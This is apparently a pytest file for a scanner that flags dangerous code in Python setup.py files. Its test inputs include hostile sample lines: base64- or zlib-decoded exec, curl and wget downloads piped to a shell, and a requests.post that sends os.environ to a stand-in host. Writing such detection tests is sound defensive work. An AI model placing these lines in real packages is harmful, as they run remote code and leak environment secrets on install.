"""setup.py: what it does besides building."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assaymark.core.scan import FileReport
from tests.conftest import ids, look_at, severe

USUAL = b"""
import os, re, sys, subprocess
from setuptools import setup, find_packages, Extension
from setuptools.command.build_ext import build_ext
here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "README.md"), encoding="utf-8") as f:
    long_description = f.read()
about = {}
with open(os.path.join(here, "pkg", "__version__.py")) as f:
    exec(f.read(), about)
exec(open("pkg/_version.py").read(), about)
exec(compile(open("pkg/version.py").read(), "version.py", "exec"), about)
version = eval(re.search("__version__ = (.*)", "x").group(1))
debug = os.environ.get("DEBUG", "0")
setup(
    name="pkg", version=about["__version__"], packages=find_packages(), long_description=long_description,
    install_requires=["numpy"], ext_modules=[Extension("pkg.fast", ["fast.c"])], cmdclass={"build_ext": build_ext},
)
"""  # fmt: skip


def hits(report: FileReport) -> list[tuple[str, int | None]]:
    return [(f.id, f.where.line) for f in report.findings]


@pytest.mark.parametrize(
    "line",
    [
        "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
        "import base64 as b; code = b.b64decode(b'cHJpbnQoMSk='); exec(code)",
        "import zlib; exec(zlib.decompress(b'x'))",
        "import marshal; exec(marshal.loads(b'x'))",
        "import urllib.request as r; exec(r.urlopen('https://x.example/p').read())",
        "exec('import os; os.system(\"id\")')",
        "import os; os.system('curl https://x.example/i.sh | sh')",
        "import subprocess; subprocess.Popen(['sh', '-c', 'wget -qO- https://x.example | bash'])",
        "import os; getattr(os, 'sy' + chr(int('115')) + x)('id')",
        "import os, requests; requests.post('https://x.example', data=dict(os.environ))",
    ],
)
def test_lib015_bad_hidden(line: str) -> None:
    report = look_at(b"from setuptools import setup\n" + line.encode() + b"\nsetup(name='x')\n", "setup.py")
    assert ("LIB015", 2) in hits(report)


def test_lib015_bad_in_a_command_class() -> None:
    text = (
        b"from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n"
        b"    def run(self):\n        import base64\n        exec(base64.b64decode('cHJpbnQoMSk='))\n        install.run(self)\n"
        b"setup(cmdclass={'install': I})\n"
    )
    assert hits(look_at(text, "setup.py")) == [("LIB015", 6)]


def test_lib015_good_usual() -> None:
    assert ids(look_at(USUAL, "setup.py")) == set()


def test_lib015_good_version_file_beside_a_download() -> None:
    text = USUAL + b"import urllib.request\nurllib.request.urlretrieve('https://x.example/w.whl', 'w.whl')\n"
    assert ids(look_at(text, "setup.py")) == {"LIB017"}


@pytest.mark.parametrize(
    "line",
    [
        "import urllib.request; urllib.request.urlretrieve('https://x.example/w', 'w')", "import requests; requests.get('https://x.example')",
        "import subprocess; subprocess.check_call(['wget', 'https://x.example/w'])", "import os; os.system('git clone https://x.example/w')",
        "import subprocess, sys; subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'numpy'])", "import socket; socket.socket()",
    ],
)  # fmt: skip
def test_lib017_bad_network(line: str) -> None:
    assert ids(look_at(line.encode(), "setup.py")) == {"LIB017"}


def test_lib017_good_no_network() -> None:
    assert severe(look_at(USUAL + b"subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n", "setup.py")) == []


def test_lib018_bad_process() -> None:
    report = look_at(b"import subprocess\nsubprocess.check_output(['git', 'describe'])\n", "setup.py")
    assert hits(report) == [("LIB018", 2)]


def test_lib018_good_none() -> None:
    assert "LIB018" not in ids(look_at(USUAL, "setup.py"))


def test_no_python_holds() -> None:
    assert "CHK002" in ids(look_at(b"print 'x'\n", "setup.py"))
    assert "CHK003" in ids(look_at(b"#" * (3 << 20), "setup.py"))


@settings(max_examples=80, deadline=None)
@given(
    st.integers(0, len(USUAL)),
    st.integers(0, 20),
    st.sampled_from([b"", b"exec(", b")", b"\0", b"\xff", b"'", b"eval", b"\n"]),
)
def test_any_mutation_gives_a_report(at: int, length: int, new: bytes) -> None:
    assert "CHK001" not in ids(look_at(USUAL[:at] + new + USUAL[at + length :], "setup.py"))
